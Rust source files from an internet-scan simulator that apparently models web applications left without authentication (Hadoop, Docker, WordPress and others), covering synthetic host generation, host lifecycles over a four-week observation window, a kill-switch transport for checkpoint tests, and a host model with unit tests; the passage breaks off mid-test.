                h.vhosts.iter().map(|v| crate::vhost::CtEntry {
                    domain: v.domain.clone(),
                    ip: h.ip,
                    logged_at: v.registered_at,
                })
            })
            .collect();
        entries.sort_by(|a, b| (a.logged_at, &a.domain).cmp(&(b.logged_at, &b.domain)));
        entries
    }

    /// All virtual hosts with their machines (ground truth for the CT
    /// study).
    pub fn vhosts(&self) -> impl Iterator<Item = (&Host, &crate::vhost::VirtualHost)> {
        self.hosts
            .values()
            .flat_map(|h| h.vhosts.iter().map(move |v| (h, v)))
    }
}

fn scale(count: u64, divisor: u64) -> usize {
    if divisor == 0 {
        return 0;
    }
    let scaled = count / divisor;
    // Keep at least one representative of non-empty populations so tiny
    // universes still contain every species.
    if scaled == 0 && count > 0 {
        1
    } else {
        scaled as usize
    }
}

fn background_kind(rng: &mut SmallRng) -> BackgroundKind {
    match rng.random_range(0..100u32) {
        0..=34 => BackgroundKind::NginxDefault,
        35..=59 => BackgroundKind::ApacheDefault,
        60..=79 => BackgroundKind::StaticSite,
        80..=89 => BackgroundKind::JsonApi,
        _ => BackgroundKind::RedirectToHttps,
    }
}

/// Sample a version index skewed by category recency (RQ2: CMSes run the
/// newest software, control panels the oldest).
fn sample_version_index(rng: &mut SmallRng, app: AppId, len: usize) -> usize {
    let alpha = match app.info().category {
        Category::Cms => 8.0,
        Category::Ci | Category::Cm => 3.0,
        Category::Nb => 1.5,
        Category::Cp => 1.0,
    };
    let u: f64 = rng.random();
    let frac = 1.0 - u.powf(alpha);
    ((frac * len as f64) as usize).min(len - 1)
}

fn make_awe_host(rng: &mut SmallRng, ip: Ipv4Addr, app: AppId, vulnerable: bool) -> Host {
    let history = nokeys_apps::release_history(app);
    let posture = app
        .info()
        .default_posture
        .expect("AWE populations are in-scope apps");

    let (version_index, config) = if vulnerable {
        match posture {
            DefaultPosture::ChangedOverTime { .. } => {
                let last_insecure =
                    nokeys_apps::version::last_insecure_index(app).expect("changed-over-time app");
                if rng.random::<f64>() < 0.8 {
                    // Old version still running factory defaults (the
                    // "80% of vulnerable notebooks are ancient" finding).
                    let idx = rng.random_range(0..=last_insecure);
                    (idx, AppConfig::default_for(app, &history[idx]))
                } else {
                    // Recent version explicitly misconfigured (the
                    // StackOverflow empty-password workaround). Products
                    // whose fix cannot be misconfigured away (Joomla's
                    // ownership proof, Adminer's hard rejection) fall back
                    // to an old version.
                    let idx = rng.random_range(last_insecure + 1..history.len());
                    let cfg = AppConfig::vulnerable_for(app, &history[idx]);
                    if cfg.is_vulnerable(app, &history[idx]) {
                        (idx, cfg)
                    } else {
                        let idx = rng.random_range(0..=last_insecure);
                        (idx, AppConfig::default_for(app, &history[idx]))
                    }
                }
            }
            DefaultPosture::InsecureByDefault => {
                let idx = sample_version_index(rng, app, history.len());
                (idx, AppConfig::vulnerable_for(app, &history[idx]))
            }
            DefaultPosture::SecureByDefault => {
                let idx = sample_version_index(rng, app, history.len());
                (idx, AppConfig::vulnerable_for(app, &history[idx]))
            }
        }
    } else {
        let idx = sample_version_index(rng, app, history.len());
        (idx, AppConfig::secure_for(app, &history[idx]))
    };

    let version = history[version_index];
    debug_assert_eq!(
        config.is_vulnerable(app, &version),
        vulnerable,
        "{app} generation must hit the requested vulnerability state"
    );

    let mut services = Vec::new();
    let ports = app.scan_ports();
    if ports == [80, 443] {
        services.push(Service {
            port: 80,
            kind: ServiceKind::Awe {
                app,
                version_index,
                config,
            },
            schemes: SchemeSupport::HttpOnly,
        });
        services.push(Service {
            port: 443,
            kind: ServiceKind::Awe {
                app,
                version_index,
                config,
            },
            schemes: SchemeSupport::HttpsOnly,
        });
    } else {
        let schemes = match rng.random_range(0..100u32) {
            0..=84 => SchemeSupport::HttpOnly,
            85..=94 => SchemeSupport::Both,
            _ => SchemeSupport::HttpsOnly,
        };
        services.push(Service {
            port: ports[0],
            kind: ServiceKind::Awe {
                app,
                version_index,
                config,
            },
            schemes,
        });
    }

    let mut host = Host::new(ip, services);
    if rng.random::<f64>() < 0.4 {
        host.cert_domain = Some(format!("srv-{}.example.org", u32::from(ip)));
    }
    if vulnerable {
        let params = LifecycleParams::for_category(app.info().category);
        let insecure_default = !config.is_modified_from_default(app, &version);
        host.lifecycle = params.sample(rng, insecure_default);
    } else {
        host.lifecycle = LifecyclePlan::static_online();
    }
    host
}

/// Build a shared-hosting machine: a hosting placeholder on 80/443 plus
/// `n_vhosts` name-based CMS sites. Roughly a third of the sites are
/// *freshly registered* during the observation window — the population
/// the CT-watching attacker races for.
fn make_shared_host(rng: &mut SmallRng, ip: Ipv4Addr, n_vhosts: u64) -> Host {
    use crate::clock::SimDuration;
    let mut host = Host::new(
        ip,
        vec![
            Service {
                port: 80,
                kind: ServiceKind::Background(BackgroundKind::StaticSite),
                schemes: SchemeSupport::HttpOnly,
            },
            Service {
                port: 443,
                kind: ServiceKind::Background(BackgroundKind::StaticSite),
                schemes: SchemeSupport::HttpsOnly,
            },
        ],
    );
    host.cert_domain = Some(format!("shared-{}.hosting.example", u32::from(ip)));
    let cms = [AppId::WordPress, AppId::Joomla, AppId::Drupal, AppId::Grav];
    for i in 0..n_vhosts {
        let app = cms[rng.random_range(0..cms.len())];
        let history_len = nokeys_apps::release_history(app).len();
        let version_index = history_len - 1 - rng.random_range(0..3.min(history_len));
        let fresh = rng.random::<f64>() < 0.34;
        let (registered_at, install_delay) = if fresh {
            // Registered somewhere inside the four-week window; the owner
            // completes the installation hours to days later.
            let reg = SimTime::SCAN_START + SimTime::OBSERVATION.mul_f64(rng.random::<f64>() * 0.9);
            let delay = SimDuration::hours(1 + rng.random_range(0..72));
            (reg, delay)
        } else {
            // Long-established site, installed well before the study.
            (
                SimTime::SCAN_START - SimDuration::days(rng.random_range(30..720)),
                SimDuration::hours(2),
            )
        };
        host.vhosts.push(crate::vhost::VirtualHost {
            domain: format!("site-{}-{}.example.org", u32::from(ip), i),
            app,
            version_index,
            registered_at,
            installed_at: registered_at + install_delay,
        });
    }
    host
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny() -> Universe {
        Universe::generate(UniverseConfig::tiny(42))
    }

    #[test]
    fn populated_in_matches_a_linear_scan() {
        let u = tiny();
        // The whole space, block by block, reconciles with the host map
        // and comes back in ascending order.
        let mut total = 0usize;
        for block in u.config().space.slash24_blocks() {
            let populated = u.populated_in(block);
            assert!(populated.windows(2).all(|w| w[0] < w[1]));
            let expected: Vec<u32> = block
                .addresses()
                .map(u32::from)
                .filter(|ip| u.host(Ipv4Addr::from(*ip)).is_some())
                .collect();
            assert_eq!(populated, expected.as_slice());
            total += populated.len();
        }
        assert_eq!(total, u.host_count());
        // A block outside the space is empty.
        let outside: Cidr = "198.51.100.0/24".parse().unwrap();
        assert!(u.populated_in(outside).is_empty());
    }

    #[test]
    fn generation_is_deterministic() {
        let a = tiny();
        let b = tiny();
        assert_eq!(a.host_count(), b.host_count());
        let mut ips_a: Vec<u32> = a.hosts().map(|h| u32::from(h.ip)).collect();
        let mut ips_b: Vec<u32> = b.hosts().map(|h| u32::from(h.ip)).collect();
        ips_a.sort();
        ips_b.sort();
        assert_eq!(ips_a, ips_b);
        for ip in ips_a.iter().take(50) {
            let ha = a.host(Ipv4Addr::from(*ip)).unwrap();
            let hb = b.host(Ipv4Addr::from(*ip)).unwrap();
            assert_eq!(ha.services, hb.services);
        }
    }

    #[test]
    fn different_seeds_differ() {
        let a = Universe::generate(UniverseConfig::tiny(1));
        let b = Universe::generate(UniverseConfig::tiny(2));
        let ips_a: std::collections::BTreeSet<u32> = a.hosts().map(|h| u32::from(h.ip)).collect();
        let ips_b: std::collections::BTreeSet<u32> = b.hosts().map(|h| u32::from(h.ip)).collect();
        assert_ne!(ips_a, ips_b);
    }

    #[test]
    fn every_app_species_is_present() {
        let u = tiny();
        for app in AppId::in_scope() {
            let found = u.hosts().any(|h| h.awe().map(|(_, a)| a) == Some(app));
            assert!(found, "{app} missing from tiny universe");
        }
    }

    #[test]
    fn vulnerable_counts_scale() {
        let u = tiny();
        // Docker: 657 MAVs / 50 = 13 expected vulnerable docker hosts.
        let docker_vuln = u
            .vulnerable_hosts()
            .filter(|h| h.awe().map(|(_, a)| a) == Some(AppId::Docker))
            .count();
        assert_eq!(docker_vuln, 13);
        // Ajenti has 0 MAVs.
        let ajenti_vuln = u
            .vulnerable_hosts()
            .filter(|h| h.awe().map(|(_, a)| a) == Some(AppId::Ajenti))
            .count();
        assert_eq!(ajenti_vuln, 0);
    }

    #[test]
    fn probe_and_respond_work_end_to_end() {
        let u = tiny();
        let host = u
            .vulnerable_hosts()
            .find(|h| h.awe().map(|(_, a)| a) == Some(AppId::Hadoop))
            .expect("tiny universe has a vulnerable hadoop");
        let ep = Endpoint::new(host.ip, 8088);
        assert_eq!(u.probe(ep, SimTime::SCAN_START), ProbeOutcome::Open);
        assert_eq!(
            u.probe(Endpoint::new(host.ip, 81), SimTime::SCAN_START),
            ProbeOutcome::Closed
        );
        let resp = u.respond(
            ep,
            &Request::get("/cluster/cluster"),
            Ipv4Addr::new(198, 51, 100, 1),
            SimTime::SCAN_START,
        );
        assert!(resp.body_text().to_lowercase().contains("dr.who"));
    }

    #[test]
    fn empty_space_probes_closed() {
        let u = tiny();
        // Find an unpopulated address inside the space.
        let mut candidate = u32::from(Ipv4Addr::new(20, 0, 200, 200));
        while u.host(Ipv4Addr::from(candidate)).is_some() {
            candidate += 1;
        }
        let ep = Endpoint::new(Ipv4Addr::from(candidate), 80);
        assert_eq!(u.probe(ep, SimTime::SCAN_START), ProbeOutcome::Closed);
    }

    #[test]
    fn tarpits_answer_every_port() {
        let u = tiny();
        let tarpit = u
            .hosts()
            .find(|h| h.tarpit)
            .expect("tiny universe has tarpits");
        for port in nokeys_apps::SCAN_PORTS {
            assert_eq!(
                u.probe(Endpoint::new(tarpit.ip, port), SimTime::SCAN_START),
                ProbeOutcome::Open
            );
        }
        assert_eq!(
            u.connect_behavior(
                Endpoint::new(tarpit.ip, 80),
                Scheme::Http,
                SimTime::SCAN_START
            ),
            Ok(ConnectBehavior::Silent)
        );
    }

    #[test]
    fn offline_lifecycle_hides_the_host() {
        let u = tiny();
        let end = SimTime::SCAN_START + SimTime::OBSERVATION;
        let gone = u
            .vulnerable_hosts()
            .find(|h| h.lifecycle.state_at(end) == HostState::Offline)
            .expect("some vulnerable host goes offline within four weeks");
        let port = gone.services[0].port;
        let ep = Endpoint::new(gone.ip, port);
        assert_eq!(u.probe(ep, SimTime::SCAN_START), ProbeOutcome::Open);
        assert_eq!(u.probe(ep, end), ProbeOutcome::Filtered);
        assert!(u.connect_behavior(ep, Scheme::Http, end).is_err());
    }

    #[test]
    fn fixed_lifecycle_serves_the_secure_variant() {
        let u = tiny();
        let end = SimTime::SCAN_START + SimTime::OBSERVATION;
        let fixed = u
            .vulnerable_hosts()
            .filter(|h| h.awe().map(|(_, a)| a) == Some(AppId::WordPress))
            .find(|h| h.lifecycle.state_at(end) == HostState::Fixed);
        // Not guaranteed for every seed; skip silently when absent.
        let Some(host) = fixed else { return };
        let ep = Endpoint::new(host.ip, 80);
        let before = u.respond(
            ep,
            &Request::get("/wp-admin/install.php?step=1"),
            Ipv4Addr::LOCALHOST,
            SimTime::SCAN_START,
        );
        assert!(before.body_text().contains("id=\"setup\""));
        let after = u.respond(
            ep,
            &Request::get("/wp-admin/install.php?step=1"),
            Ipv4Addr::LOCALHOST,
            end,
        );
        assert!(after.body_text().contains("already installed"));
    }

    #[test]
    fn geo_records_exist_for_awe_hosts() {
        let u = tiny();
        for host in u.vulnerable_hosts() {
            assert!(u.geo().lookup(host.ip).is_some(), "{} lacks geo", host.ip);
        }
    }

    #[test]
    fn wrong_scheme_fails_connection() {
        let u = tiny();
        let host = u
            .hosts()
            .find(|h| {
                h.awe().map(|(_, a)| a) == Some(AppId::WordPress) && h.service_on(80).is_some()
            })
            .unwrap();
        // Port 80 on CMS hosts is HTTP-only.
        assert!(u
            .connect_behavior(
                Endpoint::new(host.ip, 80),
                Scheme::Https,
                SimTime::SCAN_START
            )
            .is_err());
        assert_eq!(
            u.connect_behavior(
                Endpoint::new(host.ip, 80),
                Scheme::Http,
                SimTime::SCAN_START
            ),
            Ok(ConnectBehavior::Http)
        );
    }
}
