//! Host lifecycle over the four-week observation window (drives the
//! longevity study, Figure 2).
//!
//! Each vulnerable host gets a plan sampled at generation time: it may
//! get *fixed* (stays online, MAV gone), go *offline* (shut down or
//! firewalled), or receive a software *update*; otherwise it stays online
//! and vulnerable — which the paper found to be the case for more than
//! half of all hosts even after four weeks.

use crate::clock::{SimDuration, SimTime};
use rand::Rng;
use serde::{Deserialize, Serialize};

/// Observable state of a host at a point in time.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum HostState {
    /// Online; AWE still in its deployed (possibly vulnerable) state.
    Online,
    /// Online, but the MAV was remediated (auth enabled / install
    /// completed by the owner).
    Fixed,
    /// No longer reachable (shut down or firewalled).
    Offline,
}

/// The sampled plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct LifecyclePlan {
    /// When the owner remediates, if ever.
    pub fix_at: Option<SimTime>,
    /// When the host disappears, if ever.
    pub offline_at: Option<SimTime>,
    /// When the software version is bumped (2.4% of hosts during the
    /// observation window), if ever.
    pub update_at: Option<SimTime>,
}

impl LifecyclePlan {
    /// A host that never changes.
    pub fn static_online() -> Self {
        LifecyclePlan {
            fix_at: None,
            offline_at: None,
            update_at: None,
        }
    }

    /// State of the host at `t`. Offline wins over fixed when both have
    /// passed (a fixed host can still disappear later — once gone, gone).
    pub fn state_at(&self, t: SimTime) -> HostState {
        if let Some(off) = self.offline_at {
            if t >= off {
                return HostState::Offline;
            }
        }
        if let Some(fix) = self.fix_at {
            if t >= fix {
                return HostState::Fixed;
            }
        }
        HostState::Online
    }

    /// Whether the version has been updated by `t`.
    pub fn updated_by(&self, t: SimTime) -> bool {
        self.update_at.map(|u| t >= u).unwrap_or(false)
    }
}

/// Per-category parameters for plan sampling.
#[derive(Debug, Clone, Copy)]
pub struct LifecycleParams {
    /// Probability the MAV gets fixed during the window.
    pub fix_prob: f64,
    /// Probability the host goes offline during the window.
    pub offline_prob: f64,
    /// Probability of a version update during the window.
    pub update_prob: f64,
    /// Fraction of offline events landing in the first six hours (the
    /// initial cliff: ~10% of all vulnerable hosts disappear early).
    pub early_offline_frac: f64,
}

impl LifecycleParams {
    /// Parameters per category, tuned to Figure 2's aggregates:
    /// 3.2% fixed / 43.2% offline by day 28, CMS fixes early and often
    /// (completing an installation "fixes" it), notebooks stay vulnerable
    /// longest, CI churns fastest.
    pub fn for_category(cat: nokeys_apps::Category) -> Self {
        use nokeys_apps::Category::*;
        match cat {
            Ci => LifecycleParams {
                fix_prob: 0.025,
                offline_prob: 0.55,
                update_prob: 0.03,
                early_offline_frac: 0.25,
            },
            Cms => LifecycleParams {
                fix_prob: 0.22,
                offline_prob: 0.50,
                update_prob: 0.02,
                early_offline_frac: 0.20,
            },
            Cm => LifecycleParams {
                fix_prob: 0.02,
                offline_prob: 0.42,
                update_prob: 0.025,
                early_offline_frac: 0.25,
            },
            Nb => LifecycleParams {
                fix_prob: 0.02,
                offline_prob: 0.30,
                update_prob: 0.02,
                early_offline_frac: 0.15,
            },
            Cp => LifecycleParams {
                fix_prob: 0.02,
                offline_prob: 0.45,
                update_prob: 0.02,
                early_offline_frac: 0.20,
            },
        }
    }

    /// Sample a plan. `insecure_by_default` hosts are a bit more likely
    /// to be taken offline on the first day, and explicitly modified
    /// hosts a bit more likely to be fixed — both observed in Figure 2's
    /// right-hand column.
    pub fn sample<R: Rng>(&self, rng: &mut R, insecure_by_default: bool) -> LifecyclePlan {
        let window = SimTime::OBSERVATION;
        let fix_prob = if insecure_by_default {
            self.fix_prob * 0.8
        } else {
            self.fix_prob * 1.3
        };
        let early_frac = if insecure_by_default {
            self.early_offline_frac * 1.4
        } else {
            self.early_offline_frac * 0.8
        };

        let fix_at = if rng.random::<f64>() < fix_prob {
            // Fixes skew early (installations get completed within days).
            let frac = rng.random::<f64>().powi(2);
            Some(SimTime::SCAN_START + window.mul_f64(frac))
        } else {
            None
        };
        let offline_at = if rng.random::<f64>() < self.offline_prob {
            if rng.random::<f64>() < early_frac {
                // The first-six-hours cliff.
                Some(SimTime::SCAN_START + SimDuration::hours(6).mul_f64(rng.random::<f64>()))
            } else {
                // Roughly linear decay over the remaining four weeks.
                Some(SimTime::SCAN_START + window.mul_f64(rng.random::<f64>()))
            }
        } else {
            None
        };
        let update_at = if rng.random::<f64>() < self.update_prob {
            Some(SimTime::SCAN_START + window.mul_f64(rng.random::<f64>()))
        } else {
            None
        };
        LifecyclePlan {
            fix_at,
            offline_at,
            update_at,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::Category;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn state_transitions_in_order() {
        let plan = LifecyclePlan {
            fix_at: Some(SimTime(100)),
            offline_at: Some(SimTime(200)),
            update_at: None,
        };
        assert_eq!(plan.state_at(SimTime(0)), HostState::Online);
        assert_eq!(plan.state_at(SimTime(100)), HostState::Fixed);
        assert_eq!(plan.state_at(SimTime(150)), HostState::Fixed);
        assert_eq!(plan.state_at(SimTime(200)), HostState::Offline);
        assert_eq!(plan.state_at(SimTime(9999)), HostState::Offline);
    }

    #[test]
    fn offline_wins_even_if_fix_never_fires() {
        let plan = LifecyclePlan {
            fix_at: None,
            offline_at: Some(SimTime(50)),
            update_at: None,
        };
        assert_eq!(plan.state_at(SimTime(49)), HostState::Online);
        assert_eq!(plan.state_at(SimTime(50)), HostState::Offline);
    }

    #[test]
    fn static_plan_never_changes() {
        let plan = LifecyclePlan::static_online();
        assert_eq!(plan.state_at(SimTime(i64::MAX / 2)), HostState::Online);
        assert!(!plan.updated_by(SimTime(i64::MAX / 2)));
    }

    #[test]
    fn sampling_respects_probabilities_roughly() {
        let mut rng = SmallRng::seed_from_u64(7);
        let params = LifecycleParams::for_category(Category::Cm);
        let n = 20_000;
        let mut offline = 0;
        let mut fixed = 0;
        for _ in 0..n {
            let plan = params.sample(&mut rng, true);
            let end = SimTime::SCAN_START + SimTime::OBSERVATION;
            match plan.state_at(end) {
                HostState::Offline => offline += 1,
                HostState::Fixed => fixed += 1,
                HostState::Online => {}
            }
        }
        let offline_frac = offline as f64 / n as f64;
        let fixed_frac = fixed as f64 / n as f64;
        assert!(
            (0.35..0.50).contains(&offline_frac),
            "offline {offline_frac}"
        );
        assert!(fixed_frac < 0.03, "fixed {fixed_frac}");
    }

    #[test]
    fn notebooks_outlive_ci() {
        let mut rng = SmallRng::seed_from_u64(9);
        let count_alive = |params: LifecycleParams, rng: &mut SmallRng| {
            let end = SimTime::SCAN_START + SimTime::OBSERVATION;
            (0..10_000)
                .filter(|_| params.sample(rng, true).state_at(end) == HostState::Online)
                .count()
        };
        let nb = count_alive(LifecycleParams::for_category(Category::Nb), &mut rng);
        let ci = count_alive(LifecycleParams::for_category(Category::Ci), &mut rng);
        assert!(
            nb > ci,
            "notebooks should stay vulnerable longer (nb={nb} ci={ci})"
        );
    }
}
