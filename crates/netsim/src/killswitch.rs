//! Kill-and-resume rehearsal for checkpointed scans.
//!
//! [`KillableTransport`] lets a test simulate a scanner process dying
//! mid-run: after a budget of network operations, every further probe
//! or connect *hangs forever* instead of erroring. A hang (rather than
//! an error) is the honest model of `kill -9` — the pipeline cannot
//! observe its own death, clean up, or write a farewell checkpoint; the
//! test simply aborts the pipeline task once [`KillSwitch::tripped`]
//! resolves, then resumes a fresh pipeline from the last checkpoint the
//! dead one left behind.

use crate::ip::Cidr;
use nokeys_http::{BlockSweepResult, Endpoint, ProbeOutcome, Result, Scheme, Transport};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use tokio::sync::watch;

/// Shared operation budget with a trip signal. Clones share the budget.
#[derive(Debug, Clone)]
pub struct KillSwitch {
    remaining: Arc<AtomicU64>,
    used: Arc<AtomicU64>,
    trip_tx: Arc<watch::Sender<bool>>,
    trip_rx: watch::Receiver<bool>,
}

impl KillSwitch {
    /// A switch that admits `ops` operations, then trips.
    pub fn after(ops: u64) -> Self {
        let (trip_tx, trip_rx) = watch::channel(false);
        KillSwitch {
            remaining: Arc::new(AtomicU64::new(ops)),
            used: Arc::new(AtomicU64::new(0)),
            trip_tx: Arc::new(trip_tx),
            trip_rx,
        }
    }

    /// Operations admitted so far.
    pub fn used(&self) -> u64 {
        self.used.load(Ordering::Relaxed)
    }

    /// Whether the budget has been exhausted and an operation blocked.
    pub fn is_tripped(&self) -> bool {
        *self.trip_rx.borrow()
    }

    /// Resolve once the switch trips (immediately if it already has).
    /// The budget alone running out does not trip the switch — an
    /// operation must actually be refused, i.e. the wrapped process is
    /// genuinely wedged.
    pub async fn tripped(&self) {
        let mut rx = self.trip_rx.clone();
        while !*rx.borrow_and_update() {
            if rx.changed().await.is_err() {
                return; // sender gone; nothing can trip any more
            }
        }
    }

    /// Consume one unit of budget; `false` means the operation must
    /// hang. The first refusal fires the trip signal.
    fn admit(&self) -> bool {
        self.admit_many(1)
    }

    /// Consume `n` units of budget as one batched operation (a block
    /// sweep); `false` means the batch must hang. If fewer than `n`
    /// units remain, whatever is left is consumed before refusing — the
    /// process died partway through the batch, so [`used`](Self::used)
    /// totals stay identical to admitting the same work one unit at a
    /// time.
    fn admit_many(&self, n: u64) -> bool {
        let mut current = self.remaining.load(Ordering::Relaxed);
        loop {
            let (next, granted) = if current >= n {
                (current - n, true)
            } else {
                (0, false)
            };
            match self.remaining.compare_exchange_weak(
                current,
                next,
                Ordering::Relaxed,
                Ordering::Relaxed,
            ) {
                Ok(_) => {
                    self.used.fetch_add(current - next, Ordering::Relaxed);
                    if !granted {
                        self.trip_tx.send_if_modified(|tripped| {
                            let first = !*tripped;
                            *tripped = true;
                            first
                        });
                    }
                    return granted;
                }
                Err(actual) => current = actual,
            }
        }
    }
}

/// Wrap any [`Transport`] so it freezes after the switch's budget.
#[derive(Debug, Clone)]
pub struct KillableTransport<T> {
    inner: T,
    switch: KillSwitch,
}

impl<T> KillableTransport<T> {
    pub fn new(inner: T, switch: KillSwitch) -> Self {
        KillableTransport { inner, switch }
    }

    /// The switch governing this transport.
    pub fn switch(&self) -> &KillSwitch {
        &self.switch
    }

    /// The wrapped transport.
    pub fn inner(&self) -> &T {
        &self.inner
    }
}

/// A future that never resolves, in any return position.
async fn wedge<R>() -> R {
    std::future::pending::<R>().await
}

impl<T: Transport> Transport for KillableTransport<T> {
    type Conn = T::Conn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        if !self.switch.admit() {
            return wedge().await;
        }
        self.inner.probe(ep).await
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> Result<T::Conn> {
        if !self.switch.admit() {
            return wedge().await;
        }
        self.inner.connect(ep, scheme).await
    }

    async fn connect_fresh(&self, ep: Endpoint, scheme: Scheme) -> Result<T::Conn> {
        // Stale-retry redials spend budget like any other connect.
        if !self.switch.admit() {
            return wedge().await;
        }
        self.inner.connect_fresh(ep, scheme).await
    }

    fn supports_reuse(&self) -> bool {
        self.inner.supports_reuse()
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        // Charge exactly what the dense path would have: one operation
        // per (address, port) pair, regardless of how many probes the
        // inner transport evaluates individually. Checkpoint/killswitch
        // tests keep their budget arithmetic either way.
        if !self.switch.admit_many(block.size() * ports.len() as u64) {
            return wedge().await;
        }
        self.inner.sweep_block(block, ports).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SimTransport, Universe, UniverseConfig};
    use std::net::Ipv4Addr;

    fn transport() -> SimTransport {
        SimTransport::new(Arc::new(Universe::generate(UniverseConfig::tiny(1))))
    }

    #[tokio::test]
    async fn operations_within_budget_pass_through() {
        let switch = KillSwitch::after(4);
        let t = KillableTransport::new(transport(), switch.clone());
        for i in 0..4u8 {
            let _ = t.probe(Endpoint::new(Ipv4Addr::new(20, 0, 0, i), 80)).await;
        }
        assert_eq!(switch.used(), 4);
        assert!(!switch.is_tripped(), "budget exhaustion alone must not trip");
    }

    #[tokio::test]
    async fn exhausted_budget_wedges_and_trips() {
        let switch = KillSwitch::after(1);
        let t = KillableTransport::new(transport(), switch.clone());
        let ep = Endpoint::new(Ipv4Addr::new(20, 0, 0, 1), 80);
        let _ = t.probe(ep).await;

        // The over-budget probe hangs forever; abort it like a kill -9.
        let task = tokio::spawn(async move { t.probe(ep).await });
        switch.tripped().await;
        assert!(switch.is_tripped());
        task.abort();
        assert!(task.await.unwrap_err().is_cancelled());
        assert_eq!(switch.used(), 1);
    }

    #[tokio::test]
    async fn sweeps_charge_dense_ops_and_consume_the_remainder_on_death() {
        let block: Cidr = "20.0.1.0/24".parse().unwrap();
        // Budget for one 2-port sweep (512 dense ops) plus 88 spare.
        let switch = KillSwitch::after(600);
        let t = KillableTransport::new(transport(), switch.clone());
        let _ = t.sweep_block(block, &[80, 443]).await;
        assert_eq!(switch.used(), 512, "sweeps charge the dense op count");
        assert!(!switch.is_tripped());

        // The next sweep needs 512 but only 88 remain: the process dies
        // mid-batch, so the remainder is consumed and the sweep wedges.
        let wedged = tokio::spawn(async move { t.sweep_block(block, &[80, 443]).await });
        switch.tripped().await;
        assert_eq!(switch.used(), 600, "partial batch still burns the budget");
        wedged.abort();
    }

    #[tokio::test]
    async fn clones_share_one_budget() {
        let switch = KillSwitch::after(3);
        let a = KillableTransport::new(transport(), switch.clone());
        let b = a.clone();
        let ep = Endpoint::new(Ipv4Addr::new(20, 0, 0, 2), 80);
        let _ = a.probe(ep).await;
        let _ = b.probe(ep).await;
        let _ = a.probe(ep).await;
        assert_eq!(switch.used(), 3);
        let wedged = tokio::spawn(async move { b.probe(ep).await });
        switch.tripped().await;
        wedged.abort();
    }
}
