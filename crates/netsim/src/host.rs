//! Host model: the services a simulated machine exposes.

use crate::lifecycle::LifecyclePlan;
use nokeys_apps::background::BackgroundKind;
use nokeys_apps::{AppConfig, AppId};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// Which schemes a service answers on its port.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum SchemeSupport {
    HttpOnly,
    HttpsOnly,
    Both,
}

impl SchemeSupport {
    pub fn supports_http(self) -> bool {
        !matches!(self, SchemeSupport::HttpsOnly)
    }

    pub fn supports_https(self) -> bool {
        !matches!(self, SchemeSupport::HttpOnly)
    }
}

/// What runs behind an open port.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum ServiceKind {
    /// One of the 25 studied applications. The behavioural instance is
    /// materialized on demand from `(app, version_index, config)`.
    Awe {
        app: AppId,
        /// Index into `release_history(app)`.
        version_index: usize,
        config: AppConfig,
    },
    /// Background noise.
    Background(BackgroundKind),
}

/// One service on one port.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Service {
    pub port: u16,
    pub kind: ServiceKind,
    pub schemes: SchemeSupport,
}

/// A simulated machine.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Host {
    pub ip: Ipv4Addr,
    pub services: Vec<Service>,
    /// "All ports open" network artifacts the paper excluded (3.0M hosts).
    pub tarpit: bool,
    /// Lifecycle of the host over the observation window.
    pub lifecycle: LifecyclePlan,
    /// Certificate subject presented on HTTPS connections, if any
    /// (responsible-disclosure contact extraction).
    pub cert_domain: Option<String>,
    /// Name-based virtual hosts served behind this address (shared
    /// hosting). Empty for dedicated hosts.
    pub vhosts: Vec<crate::vhost::VirtualHost>,
}

impl Host {
    /// A plain host with the given services.
    pub fn new(ip: Ipv4Addr, services: Vec<Service>) -> Self {
        Host {
            ip,
            services,
            tarpit: false,
            lifecycle: LifecyclePlan::static_online(),
            cert_domain: None,
            vhosts: Vec::new(),
        }
    }

    /// The service listening on `port`, if any.
    pub fn service_on(&self, port: u16) -> Option<&Service> {
        self.services.iter().find(|s| s.port == port)
    }

    /// The AWE service of this host, if it runs one.
    pub fn awe(&self) -> Option<(&Service, AppId)> {
        self.services.iter().find_map(|s| match &s.kind {
            ServiceKind::Awe { app, .. } => Some((s, *app)),
            ServiceKind::Background(_) => None,
        })
    }

    /// Whether the host's AWE (if any) is vulnerable at deployment time.
    pub fn is_vulnerable_at_deploy(&self) -> bool {
        self.services.iter().any(|s| match &s.kind {
            ServiceKind::Awe {
                app,
                version_index,
                config,
            } => {
                let version = nokeys_apps::version_at(*app, *version_index);
                config.is_vulnerable(*app, &version)
            }
            ServiceKind::Background(_) => false,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::release_history;

    fn ip() -> Ipv4Addr {
        Ipv4Addr::new(20, 0, 0, 1)
    }

    #[test]
    fn scheme_support_classification() {
        assert!(SchemeSupport::Both.supports_http());
        assert!(SchemeSupport::Both.supports_https());
        assert!(!SchemeSupport::HttpOnly.supports_https());
        assert!(!SchemeSupport::HttpsOnly.supports_http());
    }

    #[test]
    fn awe_lookup_and_vulnerability() {
        let app = AppId::Hadoop;
        let history = release_history(app);
        let vi = history.len() - 1;
        let cfg = AppConfig::vulnerable_for(app, &history[vi]);
        let host = Host::new(
            ip(),
            vec![Service {
                port: 8088,
                kind: ServiceKind::Awe {
                    app,
                    version_index: vi,
                    config: cfg,
                },
                schemes: SchemeSupport::HttpOnly,
            }],
        );
        assert_eq!(host.awe().map(|(_, a)| a), Some(AppId::Hadoop));
        assert!(host.is_vulnerable_at_deploy());
        assert!(host.service_on(8088).is_some());
        assert!(host.service_on(80).is_none());
    }

    #[test]
    fn background_host_is_never_vulnerable() {
        let host = Host::new(
            ip(),
            vec![Service {
